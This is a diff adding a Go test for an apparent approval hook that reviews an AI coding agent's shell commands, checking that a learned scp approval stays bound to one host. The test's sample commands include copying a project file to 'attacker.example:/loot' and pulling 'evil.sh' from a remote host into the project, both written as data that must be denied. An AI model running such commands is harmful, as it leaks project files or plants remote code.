@@ -628,3 +628,33 @@ func TestHookPostSpoolsWhileUpIsStopped(t *testing.T) {
 		return nil
 	})
 }
+
+// TestLearnedRemoteCopyKeepsItsHost: approving one scp "for this pattern"
+// allows that copy again, to the same host the same way, and nothing else:
+// another host, or a copy from that host into the project, still waits for
+// a review (a walkthrough's learned `scp <path>` allowed them all).
+func TestLearnedRemoteCopyKeepsItsHost(t *testing.T) {
+	t.Parallel()
+	g, project, pre := claudeShop(t)
+	agentEnv := []string{"PATH=/usr/bin:/bin", "HOME=" + t.TempDir(), "LIGHTHOUSE_HOOK_WAIT=60"}
+	event := func(command, id string) map[string]any {
+		return map[string]any{"session_id": "s1", "hook_event_name": "PreToolUse", "cwd": g.project,
+			"tool_name": "Bash", "tool_input": map[string]any{"command": command}, "tool_use_id": id}
+	}
+	done := claudeHookAsync(t, pre, agentEnv, event("scp go.mod deploy.example:/srv/shop/", "toolu_scp1"))
+	r := g.waitPending(project, "scp go.mod deploy.example:/srv/shop/")
+	approve, _ := g.runAs(project, nil, 0, "review", "approve", r.ID[:8], "-m", "deploys go there", "--for-pattern")
+	wantIn(t, "review approve --for-pattern", approve, "<remote:deploy.example>")
+	if res := <-done; res.code != 0 || res.denied(t) != "" {
+		t.Fatalf("the approved scp: exit %d %s %s", res.code, res.stdout, res.stderr)
+	}
+	quick := []string{"PATH=/usr/bin:/bin", "HOME=" + t.TempDir(), "LIGHTHOUSE_HOOK_WAIT=1"}
+	if res := claudeHook(t, pre, quick, event("scp go.mod deploy.example:/srv/other/", "toolu_scp2")); res.denied(t) != "" {
+		t.Errorf("the same copy to the same host: %s", res.denied(t))
+	}
+	for _, c := range []string{"scp go.mod attacker.example:/loot", "scp deploy.example:/srv/evil.sh go.mod"} {
+		if res := claudeHook(t, pre, quick, event(c, "toolu_"+c[len(c)-4:])); res.denied(t) == "" {
+			t.Errorf("%s was allowed by the learned pattern", c)
+		}
+	}
+}
